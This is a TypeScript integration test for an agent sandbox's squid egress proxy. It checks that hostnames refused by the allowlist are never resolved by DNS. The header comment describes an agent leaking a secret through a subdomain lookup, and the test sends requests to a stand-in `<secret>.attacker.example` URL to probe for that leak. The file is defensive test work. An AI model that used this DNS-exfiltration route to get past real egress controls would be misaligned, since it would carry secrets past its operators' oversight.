/**
 * The egress allowlist as a DNS channel: an agent that may reach only `allowed.example` asks its
 * proxy for `http://<secret>.attacker.example/`. The proxy refuses it (403) — but if it looked the
 * name up first, the secret already left the machine as a DNS query to whatever resolver the
 * proxy uses, and the attacker's name server read it. squid evaluates a `dst` rule (cordon's
 * `to_localhost`) by resolving the requested name, so that rule must only ever meet names the
 * allowlist admitted.
 *
 * Real squid (cordon's proxy image, its generated squid.conf) in a container with no network;
 * its resolver is a small name server the test runs in the same network namespace, which writes
 * each name it is asked for and answers NXDOMAIN. The client is a third process there, `curl -x`.
 */
import { randomBytes } from "node:crypto";

import type Docker from "dockerode";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { DockerEngine } from "../../src/sandbox/index.js";
import { EgressProxyImage } from "../../src/sandbox/docker/egress/proxy-image.js";
import { readyMarker, squidConfig } from "../../src/sandbox/docker/egress/squid-config.js";
import {
  dockerClient,
  execIn,
  removeContainer,
  requireSandboxImage,
  testLabel,
} from "../support/docker.js";

const proxyPort = 3128;

/** Prints each asked name on its own line, answers NXDOMAIN (no answer is ever needed). */
const nameServer = `
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 53))
print("listening", flush=True)
while True:
    data, peer = s.recvfrom(4096)
    labels, at = [], 12
    while at < len(data) and data[at] != 0:
        size = data[at]
        labels.append(data[at + 1 : at + 1 + size].decode("ascii", "replace"))
        at += 1 + size
    print("asked " + ".".join(labels), flush=True)
    question_end = at + 5
    reply = data[:2] + b"\\x81\\x83" + b"\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + data[12:question_end]
    s.sendto(reply, peer)
`;

describe("the egress proxy and DNS", () => {
  const docker = dockerClient();
  let squid: Docker.Container | undefined;
  let resolver: Docker.Container | undefined;

  async function logsOf(container: Docker.Container): Promise<string> {
    const raw = await container.logs({ stdout: true, stderr: true });
    // Multiplexed frames: 8-byte headers around each chunk; the text is what matters here.
    return raw.toString("latin1");
  }

  async function until(check: () => Promise<boolean>, what: string): Promise<void> {
    for (let attempt = 0; attempt < 150; attempt += 1) {
      if (await check()) return;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    throw new Error(`timed out waiting for ${what}`);
  }

  /** The HTTP status squid gave `curl -x` for `url` (000 when there was no answer). */
  async function throughProxy(url: string): Promise<string> {
    const client = resolver;
    if (!client) throw new Error("no client");
    const result = await execIn(client, [
      "curl",
      "-s",
      "-o",
      "/dev/null",
      "-w",
      "%{http_code}",
      "--max-time",
      "20",
      "-x",
      `http://127.0.0.1:${proxyPort}`,
      url,
    ]);
    return result.stdout.trim();
  }

  beforeAll(async () => {
    const sandboxImage = await requireSandboxImage();
    const proxyImage = await new EgressProxyImage(new DockerEngine()).resolve();
    const config = `${squidConfig({ allow: ["allowed.example"], proxyPort })}dns_nameservers 127.0.0.1\n`;
    squid = await docker.createContainer({
      Image: proxyImage,
      Env: [`CORDON_SQUID_CONF=${config}`],
      Labels: { ...testLabel },
      HostConfig: {
        NetworkMode: "none",
        Tmpfs: { "/tmp": "rw", "/run": "rw", "/var/spool/squid": "rw", "/var/log/squid": "rw" },
      },
    });
    // The name server needs port 53 of squid's namespace before squid starts asking.
    resolver = await docker.createContainer({
      Image: sandboxImage,
      User: "0:0",
      Entrypoint: ["python3", "-u", "-c", nameServer],
      Cmd: [],
      Labels: { ...testLabel },
      HostConfig: { NetworkMode: `container:${squid.id}` },
    });
    await squid.start();
    await resolver.start();
    const started = resolver;
    const proxy = squid;
    await until(async () => (await logsOf(started)).includes("listening"), "the name server");
    await until(async () => (await logsOf(proxy)).includes(readyMarker), "squid");
  }, 600_000);

  afterAll(async () => {
    await removeContainer(resolver);
    await removeContainer(squid);
  });

  it("never looks up a name the allowlist refuses: no query carries it out", async () => {
    const secret = `leak${randomBytes(6).toString("hex")}`;
    expect(await throughProxy(`http://${secret}.attacker.example/`)).toBe("403");
    expect(await throughProxy(`https://${secret}-tls.attacker.example/`)).toBe("000");
    // An allowed name is looked up (and squid gets NXDOMAIN): the name server is the one squid
    // asks, so the silence about the secret below is not a resolver nobody used.
    expect(await throughProxy("http://allowed.example/")).not.toBe("403");
    const server = resolver;
    if (!server) throw new Error("no name server");
    await until(
      async () => (await logsOf(server)).includes("asked allowed.example"),
      "the allowed name's lookup",
    );
    expect(await logsOf(server)).not.toContain(secret);
  }, 120_000);
});
